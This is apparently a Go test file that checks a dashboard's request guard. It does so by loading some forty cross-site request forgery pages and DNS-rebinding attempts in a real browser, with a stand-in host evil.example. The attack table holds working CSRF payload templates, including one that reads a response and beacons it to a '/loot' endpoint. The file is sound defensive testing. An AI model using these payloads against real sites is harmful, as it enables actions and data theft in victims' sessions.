package guard

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"tidemark/dashboard/internal/browser"
)

// The analyst's browser, with a session, visits pages that mean harm. A real Chromium
// plays her part; evil.example is a name that resolves to this machine.

func browse(t *testing.T) *browser.Browser {
	t.Helper()
	return browser.Start(t, "--host-resolver-rules=MAP evil.example 127.0.0.1", "--disable-popup-blocking")
}

// victim is a guarded dashboard that writes down what arrives, and what gets through.
type victim struct {
	guard *Guard
	url   string
	clock *clock

	mu      sync.Mutex
	arrived map[string]bool   // attacks, by number
	through []string          // requests that reached the dashboard
	changes []string          // those of them that change state
	origins map[string]string // of changes, by path
}

const dashboardPage = `<!DOCTYPE html><link rel="stylesheet" href="/static/lime.css"><h1>the dashboard</h1>
<form id="own" method="post" action="/own"><button>own</button></form>
<form id="lock" method="post" action="/lock"><button>lock</button></form>
<a id="out" href="/out">out</a>`

func (v *victim) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/favicon.ico" { // asked for by the browser itself, whenever it likes
		http.NotFound(w, r)
		return
	}
	if r.URL.Path == "/static/lime.css" {
		w.Header().Set("Content-Type", "text/css")
		_, _ = w.Write([]byte("html { background: #00ff00 }"))
		return
	}
	v.mu.Lock()
	v.through = append(v.through, r.Method+" "+r.URL.String())
	if !reads(r) {
		v.changes = append(v.changes, r.Method+" "+r.URL.String())
		v.origins[r.URL.Path] = r.Header.Get("Origin")
	}
	v.mu.Unlock()
	w.Header().Set("Content-Type", "text/html")
	_, _ = w.Write([]byte(dashboardPage))
}

func newVictim(t *testing.T) *victim {
	t.Helper()
	v := &victim{arrived: map[string]bool{}, origins: map[string]string{}, clock: &clock{at: time.Now()}}
	g, err := New(Config{Node: "one", Now: v.clock.now, Token: token, Open: []string{"/static/"}})
	if err != nil {
		t.Fatal(err)
	}
	guarded := g.Wrap(v)
	v.guard = g
	v.url = serve(t, func(w http.ResponseWriter, r *http.Request) {
		v.mu.Lock()
		v.arrived[r.URL.Query().Get("n")] = true
		v.mu.Unlock()
		guarded.ServeHTTP(w, r)
	})
	return v
}

func serve(t *testing.T, h http.HandlerFunc) string {
	t.Helper()
	s := httptest.NewServer(h)
	t.Cleanup(s.Close)
	return s.URL
}

// awaitArrival waits until attack n has reached the port: an attack that the browser
// itself stops would prove nothing about the guard.
func (v *victim) awaitArrival(n string) bool {
	for range 500 {
		v.mu.Lock()
		there := v.arrived[n]
		v.mu.Unlock()
		if there {
			return true
		}
		time.Sleep(10 * time.Millisecond)
	}
	return false
}

func (v *victim) seen() (through, changes []string) {
	v.mu.Lock()
	defer v.mu.Unlock()
	return slices.Clone(v.through), slices.Clone(v.changes)
}

// enter lets the browser in by a launch link.
func (v *victim) enter(t *testing.T, b *browser.Browser) {
	t.Helper()
	if got := b.Open(v.guard.Link(v.url)); got != 200 {
		t.Fatalf("enter page: %d", got)
	}
	if got := b.Follow("button"); got != 200 {
		t.Fatalf("after the button: %d", got)
	}
	if got := b.Text("h1"); got != "the dashboard" {
		t.Fatalf("after the button: %q", got)
	}
}

// attacks are pages; V is the address to hit, which carries the attack's number.
var attacks = []struct{ name, page string }{
	{"form urlencoded", form(`method="post" action="V"`)},
	{"form text/plain", form(`method="post" action="V" enctype="text/plain"`)},
	{"form multipart", form(`method="post" action="V" enctype="multipart/form-data"`)},
	{"form into a new window", form(`method="post" action="V" target="_blank"`)},
	{"form into a frame", `<iframe name="f"></iframe>` + form(`method="post" action="V" target="f"`)},
	{"form without referrer", `<meta name="referrer" content="no-referrer">` + form(`method="post" action="V"`)},
	{"form with method override", form(`method="post" action="V&_method=DELETE"`)},
	{"form in a sandbox", `<iframe sandbox="allow-scripts allow-forms" srcdoc='` + form(`method="post" action="V"`) + `'></iframe>`},
	{"form in a data URL", `<iframe src='data:text/html,` + strings.ReplaceAll(form(`method="post" action="V"`), "&", "%26") + `'></iframe>`},
	{"form by redirect 307", form(`method="post" action="/redirect?to=V"`)},
	{"form to lock", form(`method="post" action="LOCK"`)},
	{"form to enter", form(`method="post" action="ENTER"`)},
	{"fetch no-cors", script(`fetch("V", {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams("a=1")})`)},
	{"fetch no-cors text", script(`fetch("V", {method: "POST", mode: "no-cors", credentials: "include", body: "{}"})`)},
	{"fetch no-cors multipart", script(`const d = new FormData(); d.set("a", "1"); fetch("V", {method: "POST", mode: "no-cors", credentials: "include", body: d})`)},
	{"fetch no-cors without referrer", script(`fetch("V", {method: "POST", mode: "no-cors", credentials: "include", referrerPolicy: "no-referrer"})`)},
	{"fetch keepalive", script(`fetch("V", {method: "POST", mode: "no-cors", credentials: "include", keepalive: true}); location = "about:blank"`)},
	{"fetch cors", script(`fetch("V", {method: "POST", credentials: "include"})`)},
	{"fetch cors JSON", script(`fetch("V", {method: "POST", credentials: "include", headers: {"Content-Type": "application/json"}, body: "{}"})`)},
	{"fetch PUT", script(`fetch("V", {method: "PUT", credentials: "include"})`)},
	{"fetch DELETE", script(`fetch("V", {method: "DELETE", credentials: "include"})`)},
	{"fetch by redirect 307", script(`fetch("/redirect?to=V", {method: "POST", mode: "no-cors", credentials: "include"})`)},
	{"fetch the API", script(`fetch("API", {method: "POST", mode: "no-cors", credentials: "include"})`)},
	{"XMLHttpRequest", script(`const x = new XMLHttpRequest(); x.open("POST", "V"); x.withCredentials = true; x.send("a=1")`)},
	{"beacon text", script(`navigator.sendBeacon("V", "a=1")`)},
	{"beacon urlencoded", script(`navigator.sendBeacon("V", new URLSearchParams("a=1"))`)},
	{"beacon multipart", script(`const d = new FormData(); d.set("a", "1"); navigator.sendBeacon("V", d)`)},
	{"ping", `<a id="a" href="#" ping="V">x</a>` + script(`document.getElementById("a").click()`)},
	{"picture", `<img src="V">`},
	{"picture of lock", `<img src="LOCK">`},
	{"script", `<script src="V"></script>`},
	{"style", `<link rel="stylesheet" href="V">`},
	{"asset as style", `<link rel="stylesheet" href="STATIC">`},
	{"frame", `<iframe src="V"></iframe>`},
	{"object", `<object data="V"></object>`},
	{"embed", `<embed src="V">`},
	{"prefetch", `<link rel="prefetch" href="V">`},
	{"event source", script(`new EventSource("V", {withCredentials: true})`)},
	{"fetch GET", script(`fetch("V", {mode: "no-cors", credentials: "include"})`)},
	{"fetch GET to read", script(`fetch("V", {credentials: "include"}).then(r => r.text()).then(t => navigator.sendBeacon("/loot", t))`)},
	{"websocket", script(`new WebSocket("V".replace("http", "ws"))`)},
	{"form GET to lock", form(`method="get" action="LOCK"`)},
	{"meta refresh to lock", `<meta http-equiv="refresh" content="0;url=LOCK">`},
	{"new window on lock", script(`window.open("LOCK")`)},
}

// form submits itself. Its fields carry the attack's number too, since a GET form
// replaces the query.
func form(attributes string) string {
	return `<form ` + attributes + `><input name="n" value="N"><input name="a" value="1"></form><script>document.forms[0].submit()</script>`
}

func script(js string) string { return "<script>" + js + "</script>" }

// hostile serves the attacks at /?n=, and notes what is brought back to it.
func hostile(t *testing.T, v *victim) (url string, loot func() int) {
	t.Helper()
	var mu sync.Mutex
	brought := 0
	url = serve(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/redirect":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
		case "/loot":
			mu.Lock()
			brought++
			mu.Unlock()
		default:
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(attackPage(v.url, r.URL.Query().Get("n"))))
		}
	})
	return url, func() int { mu.Lock(); defer mu.Unlock(); return brought }
}

func attackPage(victim, n string) string {
	var i int
	if _, err := fmt.Sscanf(n, "%d-", &i); err != nil {
		return "<h1>harmless</h1>"
	}
	return "<!DOCTYPE html>" + strings.NewReplacer(
		"V", victim+"/briefs?n="+n, "LOCK", victim+"/lock?n="+n, "ENTER", victim+"/enter?n="+n,
		"API", victim+"/api/briefs?n="+n, "STATIC", victim+"/static/lime.css?n="+n, `"N"`, `"`+n+`"`,
	).Replace(attacks[i].page)
}

func TestHostilePagesChangeNothing(t *testing.T) {
	b := browse(t)
	v := newVictim(t)
	v.enter(t, b)
	if got := b.Follow("#own button"); got != 200 {
		t.Fatalf("our own form: %d", got)
	}
	if _, changes := v.seen(); len(changes) != 1 || v.origins["/own"] != v.url {
		t.Fatalf("our own form: changes %q, Origin %q; the counter below would count nothing", changes, v.origins["/own"])
	}
	base, loot := hostile(t, v)
	for origin, at := range map[string]string{"port": base, "name": strings.Replace(base, "127.0.0.1", "evil.example", 1)} {
		for i, a := range attacks {
			n := fmt.Sprintf("%d-%s", i, origin)
			if _, err := b.TryOpen(at + "/?n=" + n); err != nil {
				t.Logf("%s from another %s: %v", a.name, origin, err)
			}
			if !v.awaitArrival(n) {
				t.Errorf("%s from another %s never reached the guard", a.name, origin)
			}
		}
	}
	through, changes := v.seen()
	if len(changes) != 1 {
		t.Errorf("hostile pages changed state: %q", changes[1:])
	}
	if reached := slices.DeleteFunc(through, func(r string) bool { return !strings.Contains(r, "n=") }); len(reached) != 0 {
		t.Errorf("hostile pages reached the dashboard: %q", reached)
	}
	if n := loot(); n != 0 {
		t.Errorf("hostile pages read %d answers", n)
	}
	if got := b.Open(v.url); got != 200 {
		t.Errorf("after all, the session is gone: %d", got)
	}
}

// A name that the attacker rebinds to this machine is, to the browser, its own origin.
func TestRebinding(t *testing.T) {
	b := browse(t)
	v := newVictim(t)
	v.enter(t, b)
	rebound := strings.Replace(v.url, "127.0.0.1", "evil.example", 1)
	before, _ := v.seen()
	if got := b.Open(rebound + "/"); got != http.StatusMisdirectedRequest {
		t.Errorf("page: %d", got)
	}
	if html := b.HTML(); strings.Contains(html, "dashboard") || strings.Contains(strings.ToLower(html), "tidemark") {
		t.Errorf("the rebound page shows %s", html)
	}
	for _, c := range []string{`"/"`, `"/api/figures"`, `"/own", {method: "POST"}`, `"/enter"`, `"/static/lime.css"`, `"/lock", {method: "POST"}`} {
		if got := browser.Eval[int](b, "fetch("+c+").then(r => r.status)"); got != http.StatusMisdirectedRequest {
			t.Errorf("fetch(%s): %d", c, got)
		}
	}
	if after, changes := v.seen(); len(after) != len(before) || len(changes) != 0 {
		t.Errorf("reached the dashboard: %q", after)
	}
}

func TestRebindingWithoutTheHostCheck(t *testing.T) {
	b := browse(t)
	changed := make(chan string, 1)
	protected := http.NewCrossOriginProtection().Handler(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		if !reads(r) {
			changed <- r.Header.Get("Sec-Fetch-Site") + r.Header.Get("Origin")
		}
	}))
	rebound := strings.Replace(serve(t, protected.ServeHTTP), "127.0.0.1", "evil.example", 1)
	b.Open(rebound)
	if got := browser.Eval[int](b, `fetch("/own", {method: "POST"}).then(r => r.status)`); got != 200 {
		t.Fatalf("CrossOriginProtection alone: %d; the Host check may not be needed any more", got)
	}
	if got := <-changed; got != rebound {
		t.Errorf("it went by %q", got)
	}
}
